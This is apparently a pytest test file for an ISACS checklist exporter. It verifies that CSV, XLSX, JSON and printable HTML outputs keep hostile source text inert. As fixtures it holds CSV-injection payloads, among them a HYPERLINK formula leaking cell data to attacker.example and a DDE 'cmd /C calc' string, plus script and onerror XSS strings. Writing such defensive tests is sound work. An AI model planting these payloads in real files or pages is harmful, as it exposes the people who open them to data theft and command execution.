"""Hostile source text in the checklist files: cells a spreadsheet would run as formulas (CSV and XLSX,
OWASP "CSV injection") stay text, the workbook's own formulas stay formulas, and markup in the printable
HTML stays text (no script element in the document Chromium prints)."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from browser_testkit import chromium, needs_chromium
from isacs.checklists import csvfile, jsonfile, xlsx
from isacs.checklists.columns import FLAT
from isacs.checklists.filters import Filters
from isacs.checklists.html import document_html
from isacs.checklists.rows import build_checklist
from isacs.checklists.stamp import make_stamp
from isacs.core.validate import check_repository

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
# One per requirement of the fixture's French checklist (five); tab and carriage return in the headings.
TEXTS = (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", "=1+1")
HEADINGS = ("\t=1+1", "\r=1+1")
TITLE = '=HYPERLINK("https://attacker.example/","Title") <script>alert("title")</script>'
SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)"> & </p><p>'


@pytest.fixture
def hostile(mini):
    """The fixture's checklist (French, with IATG and ISACS modules) with hostile texts: each row's text,
    heading and refs, and each module title."""
    corpus, _ = check_repository(mini)
    checklist = build_checklist(corpus, Filters(lang="fr"), make_stamp(mini))
    texts, headings = iter(TEXTS), iter(HEADINGS * 5)
    modules = []
    for module in checklist.modules:
        rows = tuple(
            dataclasses.replace(row, text=next(texts), clause_title=next(headings), refs=("-ref",))
            for row in module.rows
        )
        modules.append(dataclasses.replace(module, title=TITLE, rows=rows))
    return dataclasses.replace(checklist, title=TITLE, modules=tuple(modules))


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(hostile):
    data = csvfile.render(hostile).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    body = rows[1:]
    text, heading, refs = (FLAT.index(column) for column in ("text", "heading", "refs"))
    assert len(body) == sum(len(m.rows) for m in hostile.modules) == len(TEXTS)
    assert [row[text] for row in body] == ["'" + value for value in TEXTS]
    assert {row[heading] for row in body} == {"'" + h for h in HEADINGS} and {row[refs] for row in body} == {"'-ref"}
    # no cell of the file starts a formula; the harmless ones are unchanged (dates, keys, numbers)
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert body[0][FLAT.index("key")] == hostile.modules[0].rows[0].key


def test_xlsx_source_text_is_text_and_the_summary_formulas_stay_formulas(hostile):
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(xlsx.render(hostile)))
    summary, *sheets = wb.worksheets
    written = {}
    for ws in sheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    written[cell.value] = cell
    assert set(written) == {*TEXTS, *HEADINGS, "-ref"}
    assert {cell.data_type for cell in written.values()} == {"s"}
    assert all(cell.quotePrefix for cell in written.values())  # and stay text when a reader edits them
    # the summary: module titles are text, the counts are the workbook's own live formulas
    titles = [cell for row in summary.iter_rows() for cell in row if cell.value == TITLE]
    assert len(titles) == len(hostile.modules) and {c.data_type for c in titles} == {"s"}
    formulas = [cell.value for row in summary.iter_rows() for cell in row if cell.data_type == "f"]
    assert len(formulas) == 7 * (len(hostile.modules) + 1)
    assert all(f.startswith(("=COUNTA(", "=COUNTIF(", "=SUM(", "=IF(", "=E")) for f in formulas)
    assert not [f for f in formulas if "HYPERLINK" in f or "@" in f]


def test_json_keeps_the_texts_as_they_are(hostile):
    # JSON is data, not a spreadsheet: the self-assessment page shows the texts as text.
    import json

    data = json.loads(jsonfile.render(hostile))
    assert [r["text"] for m in data["modules"] for r in m["requirements"]] == list(TEXTS)


@needs_chromium
def test_printable_html_escapes_markup_in_titles_and_texts(hostile):
    module = hostile.modules[0]
    rows = (dataclasses.replace(module.rows[0], text=SCRIPT, id='r001"><script>alert(3)</script>'), *module.rows[1:])
    document = document_html(dataclasses.replace(hostile, modules=(dataclasses.replace(module, rows=rows),)))
    with chromium() as browser:
        page = browser.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.set_content(document)
        assert page.locator("script").count() == 0
        assert page.locator("img").count() == 0
        assert page.locator("[onerror]").count() == 0
        body = page.locator("body").inner_text()
        assert "<script>alert(1)</script>" in body and '<script>alert("title")</script>' in body
        assert page.title().endswith(TITLE)
        assert dialogs == []
        page.close()


def test_cross_reference_csv_tables_escape_formulas_too():
    # The site's other CSV downloads (isacs xref --format csv): module titles and term labels are source text.
    from isacs.xref.flat import FlatTable, to_csv

    table = FlatTable("modules", ("module", "term", "count"), (("isacs/05.30", HYPERLINK, 3), ("iatg/06.10", "-1", 0)))
    rows = list(csv.reader(io.StringIO(to_csv(table, "en").lstrip("\ufeff"), newline="")))
    assert rows[1:] == [["isacs/05.30", "'" + HYPERLINK, "3"], ["iatg/06.10", "'-1", "0"]]
